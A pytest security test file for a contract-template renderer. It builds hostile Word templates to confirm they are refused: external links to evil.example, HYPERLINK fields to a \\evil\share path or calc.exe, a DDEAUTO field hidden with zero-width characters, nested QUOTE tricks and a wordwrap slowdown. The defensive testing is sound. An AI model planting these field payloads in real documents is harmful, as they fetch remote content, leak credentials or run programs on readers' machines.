"""Red team, second pass: templates that slipped past the check, or held it for minutes.

A second red team found a web link used as an attached template or a linked picture, field
codes the check did not know (``RD``, ``PRINT``, ``HYPERLINK`` to ``file:`` or a
``\\\\server``), field types hidden behind quotes or zero-width characters, an
``updateFields`` inside ``mc:AlternateContent``, a ``wordwrap`` that ran for 23 s in a
worker thread, and a slow template that the check rendered with every contract.
"""

from __future__ import annotations

import io
import threading
import zipfile
from pathlib import Path

import pytest

from clausegen.errors import TemplateError
from clausegen.render.lint import trial
from clausegen.render.renderer import DocumentProperties, render_docx
from tests.helpers import build_file_tree, contract_data
from tests.security import hostile_packages as hostile
from tests.security.cli import CONTRACT, attack, left_behind, run, template_folder
from tests.template_builders import make_template, rewrite

_T = "<T>/ccap.docx"
_WEB_LINK = (
    f'<Relationship Id="rIdX" Type="{hostile.R_TYPE}/hyperlink" '
    'Target="https://evil.example/x" TargetMode="External"/>'
)
_BLIP = (
    '<w:p><w:r><w:drawing><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
    '<a:graphicData><a:blip r:{attribute}="rIdX"/></a:graphicData></a:graphic></w:drawing></w:r></w:p>'
)


def _attached_template_by_a_web_link() -> bytes:
    rels = f'<Relationships xmlns="{hostile.REL_NS}">{_WEB_LINK}</Relationships>'
    data = hostile.base_template()
    settings = hostile.member(data, "word/settings.xml").replace(
        b"</w:settings>", b'<w:attachedTemplate r:id="rIdX"/></w:settings>'
    )
    if b"xmlns:r=" not in settings.split(b">", 2)[1]:
        settings = settings.replace(
            b"<w:settings ", f'<w:settings xmlns:r="{hostile.R_TYPE}" '.encode(), 1
        )
    return rewrite(
        data, {"word/_rels/settings.xml.rels": rels.encode(), "word/settings.xml": settings}
    )


def _picture_by_a_web_link(attribute: str) -> bytes:
    return rewrite(
        hostile.base_template(),
        {
            "word/_rels/document.xml.rels": hostile._document_rels(_WEB_LINK),
            "word/document.xml": hostile._with_body(_BLIP.format(attribute=attribute)),
        },
    )


def _field(*pieces: str) -> bytes:
    body = hostile._with_body(hostile._field_runs(*pieces))
    return rewrite(hostile.base_template(), {"word/document.xml": body})


def _simple_field(instruction: str) -> bytes:
    body = hostile._with_body(
        f'<w:p><w:fldSimple w:instr="{instruction}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
    )
    return rewrite(hostile.base_template(), {"word/document.xml": body})


LINK_USED = (
    "points to external content (https://evil.example/x) from {element}, which Word would "
    "fetch when the document opens; only a hyperlink may point outside: refused"
)


@pytest.mark.parametrize(
    ("build", "part", "element"),
    [
        (_attached_template_by_a_web_link, "word/settings.xml", "w:attachedTemplate"),
        (lambda: _picture_by_a_web_link("link"), "word/document.xml", "a:blip"),
        (lambda: _picture_by_a_web_link("embed"), "word/document.xml", "a:blip"),
    ],
)
def test_a_web_link_used_by_anything_but_a_hyperlink_is_refused(
    tmp_path: Path, build: object, part: str, element: str
) -> None:
    result = attack(tmp_path, build())  # type: ignore[operator]
    assert [code for code, *_ in result.findings()] == ["external-relationship"]
    assert (result.generate.code, result.generate.errors(result.folder)) == (
        3,
        [f"Error: {_T}: {part}: {LINK_USED.format(element=element)}"],
    )
    assert result.written == []
    assert left_behind(tmp_path) == []


HYPERLINK_REFUSED = (
    "has a field HYPERLINK to {target}, which is not a web or e-mail address (a file: or "
    "\\\\server link makes Word open a program or send the user's password): refused"
)
ACTIVE = (
    "has a field {kind}, which makes Word fetch or run something from outside the document: refused"
)
COMPUTED = (
    "has a field whose type is computed by another field, a way to hide a field that fetches "
    "or runs something: refused"
)


@pytest.mark.parametrize(
    ("build", "message"),
    [
        (
            lambda: _simple_field("HYPERLINK &quot;\\\\evil\\share\\x&quot;"),
            HYPERLINK_REFUSED.format(target="\\evil\\share\\x"),
        ),
        (
            lambda: _field(' HYPERLINK "file:///c:/windows/system32/calc.exe" '),
            HYPERLINK_REFUSED.format(target="file:///c:/windows/system32/calc.exe"),
        ),
        (lambda: _field(" HYPERLINK "), HYPERLINK_REFUSED.format(target="no address")),
        (lambda: _field(' RD "\\\\evil\\share\\x.docx" '), ACTIVE.format(kind="RD")),
        (lambda: _field(' PRINT "x" '), ACTIVE.format(kind="PRINT")),
        (
            lambda: _field('\u200bINCLUDEPICTURE "http://evil/x.png"'),
            ACTIVE.format(kind="INCLUDEPICTURE"),
        ),
        (lambda: _field('" INCLUDETEXT" "c:/x.docx"'), ACTIVE.format(kind="INCLUDETEXT")),
        (lambda: _field('\\ \u00a0\u2060"ddeauto" c:\\x'), ACTIVE.format(kind="DDEAUTO")),
    ],
)
def test_fields_are_judged_as_word_reads_them(tmp_path: Path, build: object, message: str) -> None:
    result = attack(tmp_path, build())  # type: ignore[operator]
    assert [code for code, *_ in result.findings()] == ["field-code"]
    assert result.generate.code == 3
    [error] = result.generate.errors(result.folder)
    assert error.startswith(f"Error: {_T}: word/document.xml (body, paragraph 1): {message}")
    assert result.written == []


def test_a_field_type_behind_a_quote_and_a_nested_field_is_refused(tmp_path: Path) -> None:
    nested = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> " </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve">QUOTE "INCLUDEPICTURE"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> " "http://evil/x.png" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    data = rewrite(hostile.base_template(), {"word/document.xml": hostile._with_body(nested)})
    result = attack(tmp_path, data)
    assert result.generate.code == 3
    assert f"word/document.xml (body, paragraph 1): {COMPUTED}" in result.generate.stderr


@pytest.mark.parametrize(
    "target", ["https://www.example.fr/clauses", "mailto:facilitateur@example.fr"]
)
def test_a_web_or_mail_hyperlink_field_is_fine(tmp_path: Path, target: str) -> None:
    result = attack(tmp_path, _field(f' HYPERLINK "{target}" \\o "tip" '))
    assert (result.check.code, result.findings()) == (0, [])
    assert result.generate.code == 0


def test_a_hyperlink_field_built_from_contract_data_is_judged_once_rendered(tmp_path: Path) -> None:
    folder = template_folder(tmp_path, _field(" HYPERLINK {{ title }} "))
    build_file_tree(tmp_path, {"c.yaml": contract_data(title='"\\\\evil\\share"')})
    outcome = run("generate", "c.yaml", "--templates", folder, "-o", tmp_path / "out", cwd=tmp_path)
    assert outcome.code == 3
    [error] = outcome.errors(tmp_path)
    assert "the document produced has a field HYPERLINK to \\evil\\share, which is not" in error
    assert not (tmp_path / "out").exists()


# --- updateFields, wherever it is -------------------------------------------------------------


def test_update_fields_inside_alternate_content_is_removed(tmp_path: Path) -> None:
    data = hostile.base_template()
    settings = hostile.member(data, "word/settings.xml").replace(
        b"</w:settings>",
        b'<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'
        b'<mc:Choice Requires="w14"><w:updateFields w:val="true"/></mc:Choice>'
        b'<mc:Fallback><w:updateFields w:val="true"/></mc:Fallback></mc:AlternateContent>'
        b'<w:updateFields xmlns:w="http://purl.oclc.org/ooxml/wordprocessingml/main" w:val="1"/>'
        b"</w:settings>",
    )
    result = attack(tmp_path, rewrite(data, {"word/settings.xml": settings}))
    assert (result.generate.code, result.written) == (0, ["2026-TRV-014-ccap.docx"])
    with zipfile.ZipFile(
        io.BytesIO((tmp_path / "dossier" / result.written[0]).read_bytes())
    ) as docx:
        assert b"updateFields" not in docx.read("word/settings.xml")


# --- work bounded where no signal reaches ------------------------------------------------------


def test_wordwrap_of_a_huge_word_is_refused_before_it_runs_in_a_thread() -> None:
    caught: list[BaseException] = []

    def render() -> None:
        try:
            template = make_template(["{{ ('a' * 999999)|wordwrap(1) }}"])
            render_docx(
                template,
                {},
                name="m.docx",
                properties=DocumentProperties(title="T", subject="S", author="A", identifier="I"),
            )
        except BaseException as error:
            caught.append(error)

    worker = threading.Thread(target=render)
    worker.start()
    worker.join(60)
    assert not worker.is_alive()
    [error] = caught
    assert isinstance(error, TemplateError)
    assert error.message == (
        "the filter wordwrap would cut a word of 999999 characters into lines of 1, too much "
        "work for one filter"
    )


# --- the check's test renders, all contracts together ------------------------------------------


class _Clock:
    def __init__(self, steps: list[float]) -> None:
        self.now = 0.0
        self.steps = steps

    def __call__(self) -> float:
        return self.now

    def render(self) -> None:
        self.now += self.steps.pop(0)


def test_the_check_stops_a_template_after_one_slow_render(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CLAUSEGEN_LANG", "fr")  # the check speaks French to legal staff
    clock = _Clock([1.0, 6.0, 1.0])
    monkeypatch.setattr("clausegen.render.lint.trial.time.monotonic", clock)
    timer = trial._TrialClock(10.0)
    clock.render()
    assert timer.add("a.yaml") is False
    clock.render()
    assert timer.add("b.yaml") is True
    [finding] = timer.findings("ccap.docx", "ccap")
    assert (finding.code, finding.message) == (
        "render-limit",
        "Avec le contrat « b.yaml », le rendu d'essai prend 6,0 s, plus de la moitié du temps "
        "accordé à un document (10 s, fixé par CLAUSEGEN_LIMIT_RENDER_SECONDS) : un contrat un "
        "peu plus grand échouerait ; le rendu d'essai s'arrête là.",
    )


def test_the_check_stops_a_template_whose_renders_add_up(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CLAUSEGEN_LANG", "fr")  # the check speaks French to legal staff
    clock = _Clock([4.0] * 8)
    monkeypatch.setattr("clausegen.render.lint.trial.time.monotonic", clock)
    timer = trial._TrialClock(10.0)
    stopped = []
    for number in range(8):
        clock.render()
        stopped.append(timer.add(f"{number}.yaml"))
    assert stopped == [False] * 7 + [True]
    [finding] = timer.findings("ccap.docx", "ccap")
    assert finding.message == (
        "Les rendus d'essai de ce modèle prennent 32,0 s ensemble, plus de 3 fois le temps "
        "accordé à un document (10 s, fixé par CLAUSEGEN_LIMIT_RENDER_SECONDS) : le modèle est "
        "trop lent ; le rendu d'essai s'arrête là."
    )


def test_a_contract_of_the_check_is_not_rendered_after_the_template_is_too_slow(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    folder = template_folder(tmp_path, hostile.base_template())
    clock = _Clock([6.0] * 20)
    monkeypatch.setattr("clausegen.render.lint.trial.time.monotonic", clock)
    rendered: list[str] = []
    original = render_docx

    def counted(*args: object, **kwargs: object) -> bytes:
        rendered.append(str(kwargs.get("name")))
        clock.render()
        return original(*args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr("clausegen.render.lint.trial.render_docx", counted)
    from clausegen.render.lint.check import check_templates

    report = check_templates(folder, contracts=[CONTRACT, CONTRACT])
    assert len(rendered) == 1
    assert [f.code for f in report.findings] == ["render-limit"]
